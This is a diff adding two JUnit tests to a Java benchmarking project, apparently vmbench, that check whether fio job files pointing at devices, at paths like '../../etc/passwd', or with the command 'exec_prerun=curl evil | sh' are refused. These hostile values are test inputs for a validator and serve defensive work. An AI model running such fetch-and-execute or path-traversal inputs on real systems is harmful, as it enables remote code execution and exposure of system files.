@@ -79,6 +79,30 @@ class ProfileLibraryTest {
                 + "${BLOCK_SIZE}, ${RATE_IOPS_LINE}], or write the value itself.");
     }
 
+    @org.junit.jupiter.params.ParameterizedTest(name = "{0}")
+    @org.junit.jupiter.params.provider.ValueSource(strings = {"filename=/dev/sda", "filename=/var/lib/data.bin",
+        "filename=../../etc/passwd", "filename=ok.dat:/dev/sdb", "opendir=/", "filename_format=../$jobname"})
+    void aJobFileThatPointsFioOutsideTheDataDirectoryIsRefusedWithFileAndLine(String option, @TempDir Path dir)
+            throws IOException {
+        Files.writeString(dir.resolve("escape.fio"), "[global]\nruntime=${RUNTIME}\n[r]\nrw=write\n" + option + "\n");
+
+        String name = option.split("=", 2)[1].contains("/dev/sdb") ? "/dev/sdb" : option.split("=", 2)[1];
+        assertThatThrownBy(() -> ProfileLibrary.load(dir)).hasMessage("escape.fio:5: [" + option + "] names [" + name
+                + "], outside the data directory: fio runs in the data disk's mount point and may read and write only "
+                + "there (relative names, no .., no absolute path or device; a block-mode data disk is addressed by "
+                + "vmbench, not by the job file). Fix: a plain name such as " + option.split("=", 2)[0]
+                + "=fio-testfile.");
+    }
+
+    @Test
+    void aJobThatRunsACommandIsRefused(@TempDir Path dir) throws IOException {
+        Files.writeString(dir.resolve("lite-exec.fio"), "[r]\nrw=read\nexec_prerun=curl evil | sh\n");
+
+        assertThatThrownBy(() -> ProfileLibrary.load(dir)).hasMessage("lite-exec.fio:3: [exec_prerun=curl evil | sh] "
+                + "makes fio run a command or read and write files of its choosing in the guest, outside what vmbench "
+                + "measures. Fix: remove it.");
+    }
+
     @Test
     void aJobFileMayNotFixWhatTheRunSets(@TempDir Path dir) throws IOException {
         Files.writeString(dir.resolve("fixed.fio"), "[global]\nruntime=30\n[r]\nrw=read\n");
